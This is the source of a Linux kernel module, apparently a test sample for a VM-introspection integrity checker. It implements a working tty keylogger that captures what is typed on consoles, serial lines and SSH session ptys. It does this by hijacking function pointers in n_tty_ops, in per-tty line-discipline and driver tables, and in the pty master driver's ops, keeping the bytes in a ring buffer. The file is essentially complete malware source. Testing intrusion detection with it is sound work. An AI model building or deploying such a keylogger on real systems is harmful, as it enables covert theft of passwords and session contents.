// SPDX-License-Identifier: GPL-2.0
/*
 * vmiaas_attack_ttylog: a tty keylogger in the vlogger/linspy line, for
 * the integrity tests. It sees every byte a tty receives (what is typed
 * on a console or serial line, every ssh session's pty) by replacing the
 * line discipline's receive_buf2 with its own, which keeps the last
 * bytes in a small ring (the "log"), counts them in @hits and forwards
 * them to the original. No keyboard notifier, no input handler, nothing
 * in text or read-only data. The techniques (@mode):
 *   ops: writes its function into n_tty_ops.receive_buf2 (the kernel's
 *        N_TTY table, writable data; its address in @ops, from
 *        /proc/kallsyms): every tty with N_TTY;
 *   tty: opens @path (a tty) and points that tty's tty->ldisc->ops at a
 *        copy of its table (in this module's data) with its own
 *        receive_buf2: that tty only, tty_ldiscs[] untouched;
 *   kfn: a data-only change, no function of its own: n_tty_ops.ioctl
 *        (@ops) pointed at another kernel function, n_tty_ioctl_helper
 *        (same prototype; n_tty's own TIOCINQ/TIOCOUTQ are lost);
 *   driver: the driver side, what a session keylogger or injector hooks
 *        (pty_write): opens /dev/ptmx and points its driver's ops (the
 *        pty master driver, ptm) at a copy with its own write, which logs
 *        what is written into every master opened from then on (what an
 *        sshd writes there is what is typed in the session);
 *   ttyops: opens @path and points that tty's tty->ops at a copy with
 *        its own write (what the tty outputs).
 * Unloading restores the pointer (and closes @path). mode=driver: the
 * ptys opened while loaded must be closed before it is unloaded (their
 * ops are the copy).
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/err.h>
#include <linux/fcntl.h>
#include <linux/delay.h>
#include <linux/fs.h>
#include <linux/init.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/string.h>
#include <linux/tty.h>
#include <linux/tty_ldisc.h>

static char *mode = "ops";
module_param(mode, charp, 0444);
MODULE_PARM_DESC(mode, "ops: n_tty_ops.receive_buf2; tty: one tty's table; kfn: n_tty_ops.ioctl; driver: ptm's ops; ttyops: one tty's ops");

static unsigned long ops;
module_param(ops, ulong, 0444);
MODULE_PARM_DESC(ops, "mode=ops: the address of n_tty_ops");

static char *path = "/dev/ttyS1";
module_param(path, charp, 0444);
MODULE_PARM_DESC(path, "mode=tty, ttyops: the tty whose table is replaced");

static unsigned int hits;
module_param(hits, uint, 0444);
MODULE_PARM_DESC(hits, "bytes seen");

/*
 * 6.6 made receive_buf2's flags u8 and its count and result size_t; of
 * the kernels tested (6.1, 6.12) the newer one has scoped_tty (6.8+).
 */
#ifdef scoped_tty
#define TTYLOG_FLAGS	const u8 *
#define TTYLOG_COUNT	size_t
#else
#define TTYLOG_FLAGS	const char *
#define TTYLOG_COUNT	int
#endif

#define LOG_SIZE	256
static unsigned char log_ring[LOG_SIZE];
static struct tty_ldisc_ops *victim;	/* mode=ops: n_tty_ops */
static TTYLOG_COUNT (*orig)(struct tty_struct *tty, const unsigned char *cp,
			    TTYLOG_FLAGS fp, TTYLOG_COUNT count);
static struct tty_ldisc_ops copy;	/* mode=tty */
static struct tty_ldisc_ops *orig_ops;
static struct tty_struct *tty;
static struct file *filp;
static int (*orig_ioctl)(struct tty_struct *tty, unsigned int cmd,
			 unsigned long arg);		/* mode=kfn */
static const struct tty_operations *orig_tops;	/* mode=driver, ttyops */
/* The writable copy of *orig_tops, as bytes (a const table's copy). */
static u8 ops_copy[sizeof(*orig_tops)] __aligned(8);
static struct tty_driver *driver;		/* mode=driver */

/* 6.6 made a tty driver's write take and return sizes; see TTYLOG_FLAGS. */
#ifdef scoped_tty
#define TTYLOG_WRITE	ssize_t
#define TTYLOG_WCOUNT	size_t
#else
#define TTYLOG_WRITE	int
#define TTYLOG_WCOUNT	int
#endif

/* Keeps the last bytes of @cp in the ring, counts them in @hits. */
static void ttylog_log(const unsigned char *cp, size_t count)
{
	unsigned int n = READ_ONCE(hits);
	size_t i;

	for (i = 0; cp && i < count; i++)
		log_ring[(n + i) % LOG_SIZE] = cp[i];
	if (count)
		WRITE_ONCE(hits, n + count);
}

static TTYLOG_WRITE vmiaas_attack_ttylog_write(struct tty_struct *t,
					       const u8 *buf,
					       TTYLOG_WCOUNT count)
{
	if (count > 0)
		ttylog_log(buf, count);
	return orig_tops->write(t, buf, count);
}

static TTYLOG_COUNT
vmiaas_attack_ttylog_receive_buf2(struct tty_struct *t, const unsigned char *cp,
				  TTYLOG_FLAGS fp, TTYLOG_COUNT count)
{
	if (count > 0)
		ttylog_log(cp, count);
	return orig(t, cp, fp, count);
}

static int ttylog_ops(void)
{
	if (!ops)
		return -EINVAL;
	victim = (struct tty_ldisc_ops *)ops;
	if (victim->num != N_TTY || !victim->receive_buf2)
		return -EINVAL;
	orig = victim->receive_buf2;
	WRITE_ONCE(victim->receive_buf2, vmiaas_attack_ttylog_receive_buf2);
	pr_info("n_tty_ops.receive_buf2 replaced\n");
	return 0;
}

static int ttylog_kfn(void)
{
	if (!ops)
		return -EINVAL;
	victim = (struct tty_ldisc_ops *)ops;
	if (victim->num != N_TTY || !victim->ioctl)
		return -EINVAL;
	orig_ioctl = victim->ioctl;
	WRITE_ONCE(victim->ioctl, n_tty_ioctl_helper);
	pr_info("n_tty_ops.ioctl pointed at n_tty_ioctl_helper\n");
	return 0;
}

/* Opens @p; its tty in @tty (filp kept open), -ENOTTY if none. */
static int ttylog_open(const char *p)
{
	struct tty_file_private *priv;

	filp = filp_open(p, O_RDWR | O_NOCTTY | O_NONBLOCK, 0);
	if (IS_ERR(filp)) {
		int err = PTR_ERR(filp);

		filp = NULL;
		return err;
	}
	priv = filp->private_data;
	tty = priv ? priv->tty : NULL;
	if (!tty || !tty->ops || !tty->ops->write) {
		filp_close(filp, NULL);
		filp = NULL;
		tty = NULL;
		return -ENOTTY;
	}
	return 0;
}

/* ops_copy made a copy of *orig_tops with our own write. */
static void ttylog_copy_ops(void)
{
	typeof(orig_tops->write) fn = vmiaas_attack_ttylog_write;

	memcpy(ops_copy, orig_tops, sizeof(ops_copy));
	memcpy(ops_copy + offsetof(typeof(*orig_tops), write), &fn,
	       sizeof(fn));
}

static int ttylog_driver(void)
{
	int err = ttylog_open("/dev/ptmx");

	if (err)
		return err;
	driver = tty->driver;
	tty = NULL;
	filp_close(filp, NULL);		/* ptm_driver itself stays */
	filp = NULL;
	orig_tops = driver->ops;
	ttylog_copy_ops();
	WRITE_ONCE(driver->ops, (const void *)ops_copy);
	pr_info("tty driver %s: ops replaced by a copy\n", driver->name);
	return 0;
}

static int ttylog_ttyops(void)
{
	int err = ttylog_open(path);

	if (err)
		return err;
	orig_tops = tty->ops;
	ttylog_copy_ops();
	WRITE_ONCE(tty->ops, (const void *)ops_copy);
	pr_info("tty %s: ops replaced by a copy\n", tty->name);
	return 0;
}

static int ttylog_tty(void)
{
	int err = ttylog_open(path);

	if (err)
		return err;
	if (!tty->ldisc || !tty->ldisc->ops->receive_buf2) {
		filp_close(filp, NULL);
		tty = NULL;
		return -ENOTTY;
	}
	orig_ops = tty->ldisc->ops;
	copy = *orig_ops;
	orig = orig_ops->receive_buf2;
	copy.receive_buf2 = vmiaas_attack_ttylog_receive_buf2;
	WRITE_ONCE(tty->ldisc->ops, &copy);
	pr_info("tty %s: ldisc ops replaced by a copy\n", tty->name);
	return 0;
}

static int __init vmiaas_attack_ttylog_init(void)
{
	if (!strcmp(mode, "ops"))
		return ttylog_ops();
	if (!strcmp(mode, "tty"))
		return ttylog_tty();
	if (!strcmp(mode, "kfn"))
		return ttylog_kfn();
	if (!strcmp(mode, "driver"))
		return ttylog_driver();
	if (!strcmp(mode, "ttyops"))
		return ttylog_ttyops();
	return -EINVAL;
}

static void __exit vmiaas_attack_ttylog_exit(void)
{
	if (victim && orig)
		WRITE_ONCE(victim->receive_buf2, orig);
	if (victim && orig_ioctl)
		WRITE_ONCE(victim->ioctl, orig_ioctl);
	if (driver)
		WRITE_ONCE(driver->ops, orig_tops);
	if (tty && orig_tops)
		WRITE_ONCE(tty->ops, orig_tops);
	else if (tty)
		WRITE_ONCE(tty->ldisc->ops, orig_ops);
	if (filp)
		filp_close(filp, NULL);
	msleep(100);	/* best effort: a receive_buf2 in flight returns */
	pr_info("restored after %u bytes\n", hits);
}

module_init(vmiaas_attack_ttylog_init);
module_exit(vmiaas_attack_ttylog_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmiaas test: a tty keylogger through the line discipline");
